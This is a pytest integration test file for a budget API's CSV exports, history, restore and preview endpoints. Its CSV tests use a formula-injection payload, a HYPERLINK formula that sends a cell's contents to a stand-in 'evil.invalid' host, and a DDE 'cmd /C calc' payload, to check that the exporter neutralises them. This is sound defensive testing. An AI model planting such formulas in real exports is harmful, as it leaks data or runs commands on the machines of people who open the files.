"""History, restore, preview requests and CSV downloads over HTTP (Chalice's test client), on the
in-memory stores and on the DynamoDB stores (moto)."""

from __future__ import annotations

import base64
import csv
import gzip
import io
import json
from decimal import Decimal
from typing import Any

import pytest
from chalice.test import Client

from chalicelib.domain.model import (
    ChangeKind,
    ChangeRecord,
    Job,
    JobKind,
    LineItem,
    utc_now,
)
from chalicelib.entrypoints.api import csv_export
from tests.fixtures.domain import commit_as_worker
from tests.integration.api_support import World, budget_user, erp_user

P = "/api/v1/companies/demo/projects/p-1001"
ERP = "/api/v1/companies/demo/erp"
HYPERLINK = '=HYPERLINK("http://evil.invalid/?leak="&A1,"Click")'


def get(client: Client, world: World, path: str, who: str = budget_user("read_only")) -> Any:
    answer = client.http.get(path, headers=world.headers(who))
    assert answer.status_code == 200, answer.body
    return json.loads(answer.body)


def patch(client: Client, world: World, line_id: str, body: dict[str, Any]) -> None:
    answer = client.http.patch(
        f"{P}/budget/line_items/{line_id}",
        headers=world.headers(budget_user("standard")),
        body=json.dumps(body),
    )
    assert answer.status_code == 200, answer.body


def rows_of(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


def as_csv_cells(item: dict[str, Any]) -> dict[str, str]:
    return {name: "" if value is None else str(value) for name, value in item.items()}


# --- CSV -------------------------------------------------------------------------------------


def test_the_budget_csv_parses_back_to_the_api_answer_with_formulas_guarded(
    client: Client, world: World
) -> None:
    line_id = world.ids["line_item_id"]
    patch(client, world, line_id, {"description": HYPERLINK})
    budget = get(client, world, f"{P}/budget")

    answer = client.http.get(f"{P}/budget.csv", headers=world.headers(budget_user("read_only")))

    assert answer.status_code == 200
    assert answer.headers["Content-Type"].startswith("text/csv")
    assert "attachment" in answer.headers["Content-Disposition"]
    text = answer.body.decode() if isinstance(answer.body, bytes) else answer.body
    assert text.splitlines()[0] == (
        "line_item_id,sub_job,cost_code,cost_type,description,original_budget_amount,uom,"
        "quantity,unit_cost"
    )
    assert "\r\n" in text  # RFC 4180 line ends
    rows = rows_of(text)
    guarded = next(row for row in rows if row["line_item_id"] == line_id)
    assert guarded["description"] == "'" + HYPERLINK
    guarded["description"] = HYPERLINK
    assert rows == [as_csv_cells(item) for item in budget["line_items"]]


def test_the_guard_prefixes_formula_starts_and_leaves_plain_decimals(
    client: Client, world: World
) -> None:
    line_id = world.ids["line_item_id"]
    for text in ("+1+1", "-1+cmd|' /C calc'!A0", "@SUM(A1)", "\tTab", "\rReturn"):
        patch(client, world, line_id, {"description": text, "original_budget_amount": "-12.50"})
        answer = client.http.get(f"{P}/budget.csv", headers=world.headers(budget_user("admin")))
        row = next(r for r in rows_of(answer.body.decode()) if r["line_item_id"] == line_id)
        assert row["description"] == "'" + text
        assert row["original_budget_amount"] == "-12.50"


def test_text_that_looks_like_a_negative_number_is_guarded_too(
    client: Client, world: World
) -> None:
    """Only the amount and quantity columns, which Budget Bridge formats itself, go out as plain
    decimals: a description or unit of "-42" is text a spreadsheet would read as a formula."""
    line_id = world.ids["line_item_id"]
    patch(client, world, line_id, {"description": "-42", "uom": "-1"})
    answer = client.http.get(f"{P}/budget.csv", headers=world.headers(budget_user("admin")))
    row = next(r for r in rows_of(answer.body.decode()) if r["line_item_id"] == line_id)
    assert (row["description"], row["uom"]) == ("'-42", "'-1")


def _job_with_changes(world: World) -> str:
    """A finished re-import of b-1001 whose changes are recorded, through the stores."""
    budget = world.budgets.get("demo", "b-1001")
    lines = world.budgets.read_lines(budget)
    job = Job(
        job_id="job-csv",
        company_id="demo",
        budget_id="b-1001",
        kind=JobKind.REIMPORT,
        requested_by=erp_user("standard"),
        requested_at=utc_now(),
    )
    world.jobs.enqueue(job, budget, None)
    running = world.jobs.start(job.company_id, job.job_id, utc_now())
    new = [
        LineItem(x.key, HYPERLINK, x.original_budget_amount + Decimal("1.01"), x.uom) for x in lines
    ]
    changes = [
        ChangeRecord(x.line_item_id, x.key, ChangeKind.UPDATED, x.original_budget_amount,
                     n.original_budget_amount)
        for x, n in zip(lines, new, strict=True)
    ]  # fmt: skip
    commit_as_worker(world.budgets, world.budgets.get("demo", "b-1001"), running, new, changes)
    return job.job_id


def test_a_job_s_changes_csv_parses_back_to_its_changes(client: Client, world: World) -> None:
    job_id = _job_with_changes(world)
    listed = get(client, world, f"{ERP}/jobs/{job_id}/changes?limit=1000", erp_user("read_only"))

    answer = client.http.get(
        f"{ERP}/jobs/{job_id}/changes.csv", headers=world.headers(erp_user("read_only"))
    )

    assert answer.status_code == 200
    rows = rows_of(answer.body.decode())
    assert list(rows[0]) == [
        "line_item_id", "sub_job", "cost_code", "cost_type", "kind", "old_amount", "new_amount",
    ]  # fmt: skip
    assert rows == [as_csv_cells(change) for change in listed["changes"]]


def _download_paths(world: World) -> list[tuple[str, str]]:
    """Both CSV routes, each with someone who may read it."""
    return [
        (f"{P}/budget.csv", budget_user("read_only")),
        (f"{ERP}/jobs/{_job_with_changes(world)}/changes.csv", erp_user("read_only")),
    ]


def test_asked_for_gzip_a_download_is_the_same_csv_compressed(client: Client, world: World) -> None:
    for path, who in _download_paths(world):
        plain = client.http.get(path, headers=world.headers(who))
        packed = client.http.get(path, headers={**world.headers(who), "Accept": "application/gzip"})

        assert packed.status_code == 200, packed.body
        assert packed.headers["Content-Type"] == "application/gzip"
        assert '.csv.gz"' in packed.headers["Content-Disposition"]
        assert gzip.decompress(packed.body) == plain.body
        assert plain.headers["Content-Type"].startswith("text/csv")


@pytest.mark.parametrize(
    ("accept", "gzipped"),
    [
        ("application/gzip", True),
        ("application/gzip;q=0.8, text/csv", True),
        ("application/gzip, text/csv;q=0.5", True),  # as the web app asks
        ("text/csv, application/gzip", False),  # API Gateway decodes for the first type only
        ("*/*, application/gzip;q=0.1", False),
        ("application/gzip;q=0, text/csv", False),  # gzip refused outright
        ("*/*", False),
    ],
)
def test_only_an_accept_header_naming_gzip_first_gets_it(
    client: Client, world: World, accept: str, gzipped: bool
) -> None:
    headers = {**world.headers(budget_user("read_only")), "Accept": accept}

    answer = client.http.get(f"{P}/budget.csv", headers=headers)

    assert answer.status_code == 200, answer.body
    assert answer.headers["Content-Type"].startswith("application/gzip" if gzipped else "text/csv")


def test_a_long_or_foreign_name_keeps_its_csv_ending_plain_and_compressed() -> None:
    name = "budget-" + "Caf\u00e9 Zo\u00eb " * 40 + ".csv"

    plain = csv_export.download("a,b\r\n", name, "text/csv").headers["Content-Disposition"]
    packed = csv_export.download("a,b\r\n", name, "application/gzip").headers["Content-Disposition"]

    assert csv_export.safe_name(name).endswith(".csv")
    assert len(csv_export.safe_name(name)) == csv_export.MAX_NAME
    assert f'filename="{csv_export.safe_name(name)}"' in plain
    assert f'filename="{csv_export.safe_name(name)}.gz"' in packed


def test_a_csv_over_one_answer_s_limit_is_refused_plain_and_served_compressed(
    client: Client, world: World, monkeypatch: pytest.MonkeyPatch
) -> None:
    """In AWS an answer over 6 MB never reaches the caller (a bare 502 from API Gateway). The
    limit is lowered here to the size of the demo budget's file instead of building a budget of
    75,000 lines."""
    for path, who in _download_paths(world):
        size = len(client.http.get(path, headers=world.headers(who)).body)
        # The file's own size fits; as Lambda sends it (a JSON string, each CRLF and quote
        # escaped) it does not.
        monkeypatch.setattr(csv_export, "MAX_BODY_BYTES", size)

        refused = client.http.get(path, headers={**world.headers(who), "Accept": "*/*"})
        packed = client.http.get(path, headers={**world.headers(who), "Accept": "application/gzip"})

        assert refused.status_code == 406
        error = json.loads(refused.body)["error"]
        assert error["code"] == "download_too_large"
        assert "Accept: application/gzip" in error["message"]
        assert packed.status_code == 200
        assert len(gzip.decompress(packed.body)) == size
        monkeypatch.undo()


def test_a_file_too_large_even_compressed_is_refused_with_a_way_out(
    client: Client, world: World, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(csv_export, "MAX_BODY_BYTES", 10)
    headers = {**world.headers(budget_user("read_only")), "Accept": "application/gzip"}

    refused = client.http.get(f"{P}/budget.csv", headers=headers)

    assert refused.status_code == 406
    error = json.loads(refused.body)["error"]
    assert error["code"] == "download_too_large"
    assert "in pages" in error["message"]


def test_the_compressed_file_leaves_the_function_base64_encoded_for_api_gateway(
    client: Client, world: World
) -> None:
    """API Gateway decodes a binary answer only when the function marks it so and the API lists
    its media type (Chalice writes the list into the API's definition)."""
    from chalice.config import Config
    from chalice.local import LocalGateway

    from app import app

    assert csv_export.GZIP in app.api.binary_types
    headers = {**world.headers(budget_user("read_only")), "Accept": "application/gzip"}
    raw = LocalGateway(app, Config()).handle_request("GET", f"{P}/budget.csv", headers, None)

    assert raw["statusCode"] == 200
    assert raw["isBase64Encoded"] is True
    assert gzip.decompress(base64.b64decode(raw["body"])).startswith(b"line_item_id,")


# --- history ---------------------------------------------------------------------------------


def test_history_lists_each_edit_with_its_person_and_the_version_reads_as_get_did_then(
    client: Client, world: World
) -> None:
    line_id = world.ids["line_item_id"]
    then = get(client, world, f"{P}/budget")
    patch(client, world, line_id, {"original_budget_amount": "99.99"})
    patch(client, world, line_id, {"uom": "EA"})

    listed = get(client, world, f"{P}/budget/history")
    as_of = get(client, world, f"{P}/budget/history/{then['version']}")
    edited = get(client, world, f"{P}/budget/history/{then['version'] + 1}")

    assert [(v["version"], v["source"], v["by"]) for v in listed["versions"]] == [
        (then["version"] + 2, "edit", budget_user("standard")),
        (then["version"] + 1, "edit", budget_user("standard")),
        (then["version"], "import", "seed"),
    ]
    assert listed["versions"][1]["total"] == edited["total"]
    assert {k: as_of[k] for k in then} == then
    assert edited["changes"] == [
        {
            "line_item_id": line_id,
            "sub_job": "01",
            "cost_code": "03-300",
            "cost_type": "M",
            "kind": "updated",
            "old_amount": "1250.00",
            "new_amount": "99.99",
        }
    ]
    for missing in ("999", "abc", "-1"):
        answer = client.http.get(
            f"{P}/budget/history/{missing}", headers=world.headers(budget_user("admin"))
        )
        assert answer.status_code == 404


def test_a_version_written_with_other_digits_than_0_to_9_is_no_such_version(
    client: Client, world: World
) -> None:
    # "²" and "٣" are digits to str.isdigit() but not to int(): they were a 500.
    headers = world.headers(budget_user("admin"))
    for version in ("\u00b2", "%C2%B2", "\u0663", "1\u00b2"):
        shown = client.http.get(f"{P}/budget/history/{version}", headers=headers)
        restored = client.http.post(f"{P}/budget/history/{version}/restore", headers=headers)
        for answer in (shown, restored):
            assert answer.status_code == 404, (version, answer.body)
            assert json.loads(answer.body)["error"]["code"] == "not_found"


def test_restore_answers_202_with_a_restore_job_and_409_when_locked(
    client: Client, world: World
) -> None:
    headers = world.headers(budget_user("admin"))
    answer = client.http.post(f"{P}/budget/history/0/restore", headers=headers)
    assert answer.status_code == 202, answer.body
    job = json.loads(answer.body)
    assert (job["kind"], job["status"], job["restore_version"]) == ("restore", "queued", 0)
    assert answer.headers["Location"].endswith(f"/erp/jobs/{job['job_id']}")
    busy = client.http.post(f"{P}/budget/history/0/restore", headers=headers)
    assert busy.status_code == 409
    assert json.loads(busy.body)["error"]["code"] == "job_in_progress"

    locked = client.http.post(
        "/api/v1/companies/demo/projects/p-1002/budget/history/0/restore", headers=headers
    )
    assert locked.status_code == 409
    assert json.loads(locked.body)["error"]["code"] == "budget_locked"


def test_a_restore_sent_twice_with_one_idempotency_key_queues_one_job(
    client: Client, world: World
) -> None:
    """A lost answer retried (the web app sends a key with every Restore) must not queue a
    second restore, nor answer job_in_progress about its own first one."""
    headers = {**world.headers(budget_user("admin")), "Idempotency-Key": "restore-key-1"}
    first = client.http.post(f"{P}/budget/history/0/restore", headers=headers)
    again = client.http.post(f"{P}/budget/history/0/restore", headers=headers)
    bad = client.http.post(
        f"{P}/budget/history/0/restore", headers={**headers, "Idempotency-Key": "x" * 500}
    )

    assert (first.status_code, again.status_code) == (202, 202), again.body
    assert json.loads(again.body)["job_id"] == json.loads(first.body)["job_id"]
    listed = get(client, world, f"{ERP}/jobs?budget_id=b-1001", erp_user("read_only"))
    assert [j["kind"] for j in listed["jobs"]].count("restore") == 1
    assert bad.status_code == 400


# --- preview requests ------------------------------------------------------------------------


def test_preview_answers_202_holds_nothing_and_bad_preview_ids_are_refused(
    client: Client, world: World
) -> None:
    headers = world.headers(erp_user("standard"))
    answer = client.http.post(f"{ERP}/budgets/b-1001/preview", headers=headers)
    assert answer.status_code == 202, answer.body
    assert json.loads(answer.body)["kind"] == "preview"
    assert world.budgets.get("demo", "b-1001").active_job_id is None

    for body, status in (
        # No such preview, or another company's job: the budget exists, so not a 404.
        ({"preview_job_id": "no-such-job"}, 400),
        ({"preview_job_id": "job-b-2002"}, 400),
        ({"preview_job_id": 5}, 422),
        ({"preview": "x"}, 422),
        ({"preview_job_id": json.loads(answer.body)["job_id"]}, 400),  # not finished yet
    ):
        refused = client.http.post(
            f"{ERP}/budgets/b-1001/reimport", headers=headers, body=json.dumps(body)
        )
        assert refused.status_code == status, (body, refused.body)
        assert set(json.loads(refused.body)["error"]) >= {"code", "message"}


def test_preview_takes_the_same_optional_body_as_import_and_reimport(
    client: Client, world: World
) -> None:
    headers = world.headers(erp_user("standard"))
    url = f"{ERP}/budgets/b-1001/preview"

    allowed = client.http.post(url, headers=headers, body=json.dumps({"allow_empty": True}))
    assert allowed.status_code == 202, allowed.body
    assert world.jobs.get("demo", json.loads(allowed.body)["job_id"]).allow_empty
    plain = client.http.post(url, headers=headers, body=json.dumps({}))
    assert plain.status_code == 202, plain.body
    assert not world.jobs.get("demo", json.loads(plain.body)["job_id"]).allow_empty

    nested = json.dumps({"preview_job_id": json.loads(plain.body)["job_id"]})
    refused = client.http.post(url, headers=headers, body=nested)
    assert refused.status_code == 400, refused.body
    assert "preview_job_id" in json.loads(refused.body)["error"]["message"]


def test_the_budgets_list_carries_the_erp_total_as_last_fetched(
    client: Client, world: World
) -> None:
    budget = world.budgets.get("demo", "b-1001")
    world.budgets.record_erp_total(budget, Decimal("4321.09"), utc_now())

    rows = get(client, world, f"{ERP}/budgets", erp_user("read_only"))["budgets"]

    row = next(r for r in rows if r["budget_id"] == "b-1001")
    assert row["current_erp_total"] == "4321.09" and row["erp_total_as_of"].endswith("Z")
    assert next(r for r in rows if r["budget_id"] == "b-1004")["current_erp_total"] is None
